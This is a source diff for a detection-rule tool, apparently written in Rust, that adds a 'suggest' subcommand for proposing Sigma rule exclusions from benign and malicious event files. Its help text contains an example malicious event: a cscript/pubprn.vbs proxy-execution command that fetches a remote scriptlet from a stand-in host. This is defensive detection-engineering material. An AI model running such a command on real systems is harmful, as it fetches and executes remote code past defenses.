@@ -30,6 +30,7 @@ pub enum Command {
     Lint(Lint),
     Explain(Explain),
     Guide(Guide),
+    Suggest(Suggest),
     Evade(Evade),
     Reach(crate::reach::args::Reach),
 }
@@ -232,6 +233,59 @@ pub struct Evade {
     /// Print JSON, one object a line
     #[arg(long)]
     pub json: bool,
+}
+
+/// Suggest exclusions that quiet a rule on benign events and lose no malicious one
+///
+/// Candidates come from the benign events and from the exclusions of public rules. Each is
+/// written into the rule, which is read and evaluated again: what stands beside it is what came
+/// of that. `!` says how an attacker could satisfy it.
+#[derive(Debug, clap::Args)]
+#[command(after_help = "\
+Examples:
+  printf '%s\\n' 'cscript .\\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct' > bad.txt
+  printf '%s\\n' 'cscript .\\pubprn.vbs prn01.example.com script:check' > fine.txt
+  cutout suggest --rule t1216/pubprn --malicious bad.txt --benign fine.txt
+  cutout suggest --rule t1216/pubprn --malicious bad.txt --benign fine.txt --apply 1
+
+The order: most benign events removed, then the most specific, then the hardest to satisfy on
+purpose, then the shortest. --apply prints the whole text of the changed rule, or of the filter
+file, on standard output, and what it does on standard error; no file is changed.
+
+With --json every line is one object a rule: {\"rule\",\"malicious\",\"benign\",\"candidates\",
+\"lost_a_malicious\",\"note\"}, the last one {\"summary\"}; with --apply there is one object: {\"text\",
+\"added\",\"before\",\"after\",\"lost\"} and how it is placed. Events are counted from 0 over all files,
+the malicious ones first.")]
+pub struct Suggest {
+    /// Files with events that the rule must go on to match, folders of them, or - for standard
+    /// input; may be given again
+    #[arg(long, value_name = "EVENTS")]
+    pub malicious: Vec<PathBuf>,
+    /// Files with events that the rule should not match; may be given again
+    #[arg(long, value_name = "EVENTS", required = true)]
+    pub benign: Vec<PathBuf>,
+    #[command(flatten)]
+    pub choice: Choice,
+    /// Print the rule with this one of the exclusions, counted from 1
+    #[arg(long, value_name = "N")]
+    pub apply: Option<usize>,
+    /// Where --apply puts it: for Sigma, into filter_main_ or filter_optional_, or into a filter
+    /// file beside the rule
+    #[arg(long, value_name = "WHERE", default_value = "main", requires = "apply")]
+    pub placement: Place,
+    #[command(flatten)]
+    pub reading: Reading,
+    /// Print JSON, one object a line
+    #[arg(long)]
+    pub json: bool,
+}
+
+/// Where `suggest --apply` puts an exclusion.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
+pub enum Place {
+    Main,
+    Optional,
+    File,
 }
 
 /// When `eval` reports findings.
